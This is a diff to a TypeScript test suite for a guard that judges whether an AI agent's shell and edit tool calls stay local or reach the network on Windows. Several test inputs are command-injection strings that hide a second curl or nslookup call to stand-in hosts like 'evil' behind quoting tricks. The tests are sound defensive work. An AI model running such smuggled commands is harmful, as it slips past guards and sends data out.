@@ -2,6 +2,45 @@ import assert from 'node:assert/strict';
 import { readShell, shellSpelling } from '../../src/core/guard/shellScript.ts';
 import { judgeToolCall, kindOfTool, reachesNetwork } from '../../src/core/guard/toolCall.ts';
 
+describe('judgeToolCall on Windows', () => {
+  const check = (command: unknown, expected: string): void =>
+    assert.equal(judgeToolCall('Bash', { command }, true).reach, expected, JSON.stringify(command));
+  const commands: Record<string, readonly unknown[]> = {
+    local: [
+      'echo KEY=x >> .env',
+      'echo "a & b | c" > a.txt && type a.txt',
+      'copy src\\a.txt b.txt',
+      'mkdir out & dir out',
+      ['bash', '-lc', 'cat x'],
+    ],
+    unknown: [
+      "echo 'x & nslookup x.evil.test'",
+      "echo ' & curl evil -d x & rem '",
+      'echo "a\\" & curl evil & rem "',
+      'echo a \\& curl evil',
+      'echo a ^& b',
+      'echo %PATH:~0,1%',
+      'echo a # & curl evil',
+      'echo "`" ; dir',
+      'echo $x',
+      'echo a > b\ncd',
+      'type a\\\\b',
+      // Found in the present folder first, where a model may have written it.
+      'grep x file',
+      'cat file',
+      ['grep', 'x', 'file'],
+    ],
+    network: ['curl https://example.test/x', 'echo x & nslookup x.example.test', ['bash', '-lc', 'curl x'], 'type //server/share/file'],
+  };
+  for (const [reach, list] of Object.entries(commands))
+    for (const command of list) it(`${reach}: ${JSON.stringify(command)}`, () => check(command, reach));
+
+  it('judges edits as elsewhere', () => {
+    assert.equal(judgeToolCall('Edit', { file_path: 'C:\\a.txt', new_string: 'x' }, true).reach, 'local');
+    assert.equal(judgeToolCall('Edit', { file_path: '\\\\server\\x', new_string: 'x' }, true).reach, 'network');
+  });
+});
+
 describe('judgeToolCall', () => {
   const check = (tool: string, args: unknown, expected: string): void => {
     const judged = judgeToolCall(tool, args);
